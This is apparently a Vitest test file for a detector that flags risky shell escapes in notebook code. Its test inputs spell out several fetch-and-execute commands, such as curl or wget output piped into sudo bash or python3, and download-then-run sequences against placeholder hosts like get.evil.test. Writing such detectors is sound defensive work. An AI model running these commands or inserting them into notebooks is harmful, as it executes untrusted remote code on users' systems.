import { describe, expect, it } from "vitest";
import { shellRisks } from "./shell-risks.js";

const brief = (src: string) => shellRisks(src).map((r) => [r.how, r.downloader, r.interpreter, r.line, r.escape, r.host ?? null]);

describe("shellRisks", () => {
  it("finds downloads piped into an interpreter", () => {
    expect(brief("import os\n!curl -fsSL https://get.evil.test/install.sh | sudo bash\n")).toEqual([["pipe", "curl", "bash", 2, "!", "get.evil.test"]]);
    expect(brief("%sx wget -qO- http://x.test/a | python3 -")).toEqual([["pipe", "wget", "python3", 1, "%sx", "x.test"]]);
  });

  it("finds process substitution and command substitution", () => {
    expect(brief('!bash <(curl -s https://x.test/s.sh)\n!sh -c "$(wget -qO- https://y.test/i)"')).toEqual([
      ["substitution", "curl", "bash", 1, "!", "x.test"],
      ["substitution", "wget", "sh", 2, "!", "y.test"],
    ]);
  });

  it("finds a %%bash cell, or separate escapes, that fetch a script and run it", () => {
    expect(brief("%%bash\nset -e\nwget https://x.test/setup.sh\nchmod +x setup.sh\n./setup.sh\n")).toEqual([
      ["download-then-run", "wget", "chmod +x", 4, "%%bash", null],
      ["download-then-run", "wget", "./setup.sh", 5, "%%bash", null],
    ]);
    expect(brief("!curl -L -o inst.py https://x.test/inst.py\nprint('ok')\n!python inst.py --yes")).toEqual([["download-then-run", "curl", "python", 3, "!", null]]);
  });

  it("does not report plain downloads, or commands in strings and comments", () => {
    expect(brief("!wget https://data.test/train.csv\n!curl -o model.bin https://hf.test/m.bin\n!tar xzf data.tgz")).toEqual([]);
    expect(brief('cmd = "curl https://x.test | sh"\n# !curl https://x.test | sh\ns = """\n!curl https://x.test | sh\n"""')).toEqual([]);
  });
});
